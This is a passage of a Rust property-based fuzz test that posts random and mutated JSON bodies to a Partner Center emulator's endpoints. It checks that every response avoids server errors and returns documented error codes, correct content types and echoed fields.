            json!({"referenceCustomerId": customer, "lineItems": [{"lineItemNumber": 0, "offerId": "CFQ7TTC0LH18:0001", "quantity": 1}]}),
            true,
        ),
        (
            "/_emulator/partners",
            "/_emulator/partners".into(),
            json!({"name": "Fuzz", "partnerType": "IndirectReseller", "indirectProviderId": persona.tenant_id}),
            false,
        ),
        (
            "/_emulator/tokens",
            "/_emulator/tokens".into(),
            json!({"partnerTenantId": persona.tenant_id, "roles": ["AdminAgent"], "expiresInSeconds": 60}),
            false,
        ),
        (
            "/_emulator/customers/{id}/direct-acceptance",
            format!("/_emulator/customers/{customer}/direct-acceptance"),
            json!({"firstName": "Fuzz", "lastName": "Lee", "email": "f@contoso.example", "dateAgreed": "2025-01-01T00:00:00Z"}),
            false,
        ),
    ];
    // Partner Center's and the emulator's documented 400/409 codes a body can cause.
    let documented: BTreeSet<u64> =
        [990400, 990401, 990410, 990411, 990412, 990413, 600002, 600061, 990422, 990423, 990425, 990430]
            .into_iter()
            .collect();
    let content_types = ["application/json", "application/json; charset=utf-8", "application/vnd.pce+json"];
    let config = ProptestConfig {
        cases: cases(96),
        failure_persistence: None,
        max_shrink_iters: 64,
        ..ProptestConfig::default()
    };
    let mut runner = TestRunner::new(config);
    let strategy = (0..routes.len(), fuzz_body(), 0..content_types.len());
    let result = runner.run(&strategy, |(route, body, content_type)| {
        let (name, path, valid, v1) = &routes[route];
        let bytes = match &body {
            FuzzBody::Bytes(b) => b.clone(),
            FuzzBody::Json(v) => serde_json::to_vec(v).unwrap(),
            FuzzBody::Edited(edits) => {
                let mut v = valid.clone();
                if *name == "/v1/customers" {
                    v["companyProfile"]["domain"] = json!(unique("fz"));
                }
                for (at, edit) in edits {
                    let mut paths = Vec::new();
                    member_paths(&v, &mut Vec::new(), &mut paths);
                    if !paths.is_empty() {
                        apply_edit(&mut v, &paths[at % paths.len()], edit);
                    }
                }
                serde_json::to_vec(&v).unwrap()
            }
        };
        rt.block_on(async {
            let mut request = app.request(Method::POST, path, if *v1 { Some(persona.token.as_str()) } else { None });
            request = request.header("content-type", content_types[content_type]).body(bytes.clone());
            let r = request.send().await.unwrap();
            let status = r.status().as_u16();
            let content = r.headers().get("content-type").map(|v| v.to_str().unwrap().to_string());
            let text = r.text().await.unwrap();
            let what = format!("POST {name} with {}: {status} {text}", String::from_utf8_lossy(&bytes));
            prop_assert!(status < 500, "{}", what);
            prop_assert_eq!(content.as_deref(), Some("application/json; charset=utf-8"), "{}", what);
            let answer: Value = serde_json::from_str(&text).unwrap();
            let sent: Option<Value> = serde_json::from_slice(&bytes).ok();
            if status >= 400 {
                prop_assert!(matches!(status, 400 | 404 | 409), "{}", what);
                let code = answer["code"].as_u64().unwrap_or_default();
                prop_assert!(documented.contains(&code), "undocumented code: {}", what);
                prop_assert!(answer["description"].as_str().is_some_and(|d| !d.is_empty()), "{}", what);
                prop_assert!(answer["data"].is_array(), "{}", what);
                if code == 990401 {
                    prop_assert!(!answer["data"].as_array().unwrap().is_empty(), "{}", what);
                }
                if !sent.as_ref().is_some_and(Value::is_object) {
                    prop_assert_eq!(code, 990400, "{}", what);
                }
            } else {
                prop_assert!(status == 200 || status == 201, "{}", what);
                let sent = sent.unwrap();
                let sent = partner_center_emulator::http::extract::normalize_keys(sent);
                match *name {
                    "/v1/customers/{id}/agreements" | "/_emulator/customers/{id}/direct-acceptance" => {
                        let contact =
                            if *name == "/v1/customers/{id}/agreements" { &sent["primaryContact"] } else { &sent };
                        for field in ["firstName", "lastName", "email"] {
                            let given = contact[field].as_str().map(str::trim);
                            prop_assert_eq!(answer["primaryContact"][field].as_str(), given, "{}", what);
                        }
                    }
                    "/v1/customers" => {
                        for field in CUSTOMER_TEXT_FIELDS.iter().filter(|f| f.starts_with("/billingProfile")) {
                            prop_assert_eq!(answer.pointer(field), sent.pointer(field), "{}: {}", field, what);
                        }
                    }
                    "/v1/customers/{id}/orders" => {
                        let items = sent["lineItems"].as_array().unwrap();
                        prop_assert_eq!(answer["lineItems"].as_array().unwrap().len(), items.len(), "{}", what);
                    }
                    "/_emulator/partners" => {
                        prop_assert_eq!(answer["name"].as_str(), sent["name"].as_str().map(str::trim), "{}", what)
                    }
                    _ => {}
                }
            }
            Ok(())
        })
    });
    if let Err(e) = result {
        panic!("{e}");
    }
    // the wrong content type and no content type are 415 whatever the body
    rt.block_on(async {
        for content_type in [Some("text/plain"), Some("application/x-www-form-urlencoded"), None] {
            let mut r = app.request(Method::POST, "/v1/customers", Some(&persona.token)).body("{}");
            if let Some(ct) = content_type {
                r = r.header("content-type", ct);
            }
            assert_error(r.send().await.unwrap(), 415, 990402).await;
        }
    });
    drop(app);
}
